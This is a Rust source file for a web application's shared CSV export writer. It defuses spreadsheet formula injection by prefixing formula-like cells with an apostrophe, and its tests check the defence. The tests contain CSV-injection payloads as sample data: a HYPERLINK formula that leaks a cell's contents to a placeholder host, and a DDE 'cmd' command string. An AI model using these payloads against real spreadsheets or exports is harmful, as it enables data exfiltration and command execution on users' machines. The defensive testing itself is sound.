//! The one CSV writer of the app. Every export (audit log, reports, open data, signals) writes
//! through it, so every cell goes through the same neutraliser: a cell a spreadsheet would read
//! as a formula — one beginning with `=`, `+`, `-`, `@`, TAB or CR — is written with a leading
//! `'` (the OWASP rule), which spreadsheets show as text. A cell that is a plain number (an
//! optional sign, digits, at most one `.` or `,` and more digits: `-12`, `+3.5`, `-4,25`) is left
//! as it is, so that negative figures stay numbers: a number cannot call a function or open a
//! link.

use std::borrow::Cow;

use axum::{
    http::{HeaderValue, header},
    response::{IntoResponse, Response},
};

use crate::web::{error::AppError, response::Verbatim};

/// The media type of every CSV answer.
pub const CONTENT_TYPE: &str = "text/csv; charset=utf-8";

/// How a file is laid out.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Dialect {
    pub delimiter: u8,
    /// A UTF-8 byte-order mark first, so that spreadsheets read the accents right.
    pub bom: bool,
}

/// `;` and a byte-order mark: what spreadsheets in Belgian locales open directly.
pub const SEMICOLON_WITH_BOM: Dialect = Dialect { delimiter: b';', bom: true };
/// `,` and a byte-order mark.
pub const COMMA_WITH_BOM: Dialect = Dialect { delimiter: b',', bom: true };

/// The first characters that make a spreadsheet evaluate a cell.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as it is written: inert for a spreadsheet.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) && !is_number(cell) { Cow::Owned(format!("'{cell}")) } else { Cow::Borrowed(cell) }
}

/// A plain decimal number: optional sign, digits, at most one `.` or `,` followed by digits.
fn is_number(cell: &str) -> bool {
    let unsigned = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    let (whole, fraction) = match unsigned.split_once(['.', ',']) {
        Some((whole, fraction)) => (whole, Some(fraction)),
        None => (unsigned, None),
    };
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    digits(whole) && fraction.is_none_or(digits)
}

/// A CSV file being written in memory.
pub struct CsvWriter {
    dialect: Dialect,
    inner: ::csv::Writer<Vec<u8>>,
}

impl CsvWriter {
    pub fn new(dialect: Dialect) -> Self {
        CsvWriter { dialect, inner: ::csv::WriterBuilder::new().delimiter(dialect.delimiter).from_writer(Vec::new()) }
    }

    /// One line; every cell neutralised.
    pub fn record<I>(&mut self, cells: I) -> Result<(), ::csv::Error>
    where
        I: IntoIterator,
        I::Item: AsRef<str>,
    {
        // (soft hyphens help German words wrap on a screen; a spreadsheet cell has no use for them)
        let cells: Vec<String> = cells.into_iter().map(|c| neutralise(&c.as_ref().replace('\u{ad}', "")).into_owned()).collect();
        self.inner.write_record(&cells)
    }

    /// The bytes of the file.
    pub fn finish(self) -> Result<Vec<u8>, ::csv::Error> {
        let body = self.inner.into_inner().map_err(|e| ::csv::Error::from(e.into_error()))?;
        if !self.dialect.bom {
            return Ok(body);
        }
        let mut bytes = "\u{feff}".as_bytes().to_vec();
        bytes.extend(body);
        Ok(bytes)
    }
}

impl From<::csv::Error> for AppError {
    fn from(error: ::csv::Error) -> Self {
        tracing::error!(%error, "csv");
        AppError::Unavailable
    }
}

/// A CSV file to download as `filename` (answered as it is, never replaced by an error page).
pub fn attachment(bytes: Vec<u8>, filename: &str) -> Response {
    let mut response = (Verbatim, bytes).into_response();
    let headers = response.headers_mut();
    headers.insert(header::CONTENT_TYPE, HeaderValue::from_static(CONTENT_TYPE));
    let disposition = format!("attachment; filename=\"{}\"", filename.replace(['"', '\\'], "_"));
    if let Ok(value) = HeaderValue::from_str(&crate::web::response::header_safe(&disposition)) {
        headers.insert(header::CONTENT_DISPOSITION, value);
    }
    response
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(bytes: &[u8], delimiter: u8) -> Vec<Vec<String>> {
        let text = std::str::from_utf8(bytes).unwrap().trim_start_matches('\u{feff}');
        ::csv::ReaderBuilder::new()
            .delimiter(delimiter)
            .has_headers(false)
            .from_reader(text.as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect()
    }

    #[test]
    fn every_formula_start_is_made_inert() {
        for start in FORMULA_STARTS {
            for rest in ["HYPERLINK(\"http://x?leak=\"&B2,\"Open\")", "1+1", "cmd|' /C calc'!A0", "", "SUM(A1:A9)"] {
                let cell = format!("{start}{rest}");
                let written = neutralise(&cell);
                assert_eq!(written, format!("'{cell}"), "{cell:?}");
            }
        }
        // the attack of the issue, through a whole file and back
        let mut writer = CsvWriter::new(SEMICOLON_WITH_BOM);
        writer.record(["=HYPERLINK(\"http://x?leak=\"&B2,\"Open\")", "@SUM(1)", "\t=1", "\r=1", "a;b"]).unwrap();
        let rows = read(&writer.finish().unwrap(), b';');
        assert_eq!(rows, vec![vec!["'=HYPERLINK(\"http://x?leak=\"&B2,\"Open\")", "'@SUM(1)", "'\t=1", "'\r=1", "a;b"]]);
    }

    #[test]
    fn normal_text_and_numbers_are_untouched() {
        for cell in ["", "Marie", "CPAS de Charleroi", "2026-12-06", "12", "0", "a=b", "x-y", "'quoted", "Liège — « démo »", " =1"] {
            assert_eq!(neutralise(cell), cell, "{cell:?}");
        }
        // numbers with a sign stay numbers (negative figures, coordinates)
        for number in ["-12", "+3", "-4.25", "-4,25", "+0.5"] {
            assert_eq!(neutralise(number), number, "{number:?}");
        }
        // …but nothing more than a number
        for formula in ["-1+2", "-", "+", "-1.", "-.5", "-1.2.3", "+32 2 123 45 67", "-1e5", "-2,5;x"] {
            assert_eq!(neutralise(formula), format!("'{formula}"), "{formula:?}");
        }
    }

    #[test]
    fn the_dialect_decides_the_separator_and_the_byte_order_mark() {
        let mut semicolon = CsvWriter::new(SEMICOLON_WITH_BOM);
        semicolon.record(["a", "b"]).unwrap();
        assert_eq!(semicolon.finish().unwrap(), "\u{feff}a;b\n".as_bytes());
        let mut comma = CsvWriter::new(Dialect { delimiter: b',', bom: false });
        comma.record(["a", "b,c"]).unwrap();
        assert_eq!(comma.finish().unwrap(), b"a,\"b,c\"\n");
    }
}
